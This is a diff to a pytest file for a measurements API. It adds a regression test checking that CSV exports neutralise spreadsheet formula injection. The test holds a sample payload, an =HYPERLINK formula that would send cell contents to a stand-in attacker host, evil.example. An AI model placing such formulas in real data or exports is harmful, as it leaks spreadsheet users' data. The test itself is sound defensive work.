@@ -4,10 +4,11 @@ from __future__ import annotations
 
 from typing import Any
 
+import psycopg
 import pytest
 from fastapi.testclient import TestClient
 
-from tests.api.conftest import World, assert_csv_equals_json, error_of
+from tests.api.conftest import World, assert_csv_equals_json, csv_rows, error_of
 
 DAY_27 = "start=2026-11-27T00:00:00Z&end=2026-11-28T00:00:00Z"
 
@@ -178,3 +179,25 @@ def test_bad_parameters(client: TestClient, world: World, query: str, parameter:
 
 def test_unknown_outlet_is_404(client: TestClient, world: World) -> None:
     error_of(client.get("/v1/outlets/999999/measurements"), 404, "outlet_id")
+
+
+EVIL_FLAG = '=HYPERLINK("http://evil.example/?leak="&A1,"fix")'
+
+
+def test_csv_never_carries_a_formula(
+    client: TestClient, db: psycopg.Connection, world: World
+) -> None:
+    """Issue 15: a flag stored before flags were checked at ingest (or any text) must not
+    reach a spreadsheet as a formula; JSON keeps the value as it is."""
+    db.execute(
+        "INSERT INTO measurements (outlet_id, pollutant, kind, ts, value, flag, received_at)"
+        " VALUES (%s, 'a21026', 'min', '2026-11-27T05:00:00Z', -1.5, %s, now())",
+        (world.gas, EVIL_FLAG),
+    )
+    query = f"resolution=raw&pollutant=a21026&{DAY_27}"
+    points = series(client, world.gas, query)["results"]
+    assert [p["flag"]["code"] for p in points if p["value"] == -1.5] == [EVIL_FLAG]
+    rows = csv_rows(client.get(f"/v1/outlets/{world.gas}/measurements?{query}&format=csv").text)
+    [evil] = [r for r in rows if r["value"] == "-1.5"]  # a number stays a number
+    assert evil["flag_code"] == "'" + EVIL_FLAG
+    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
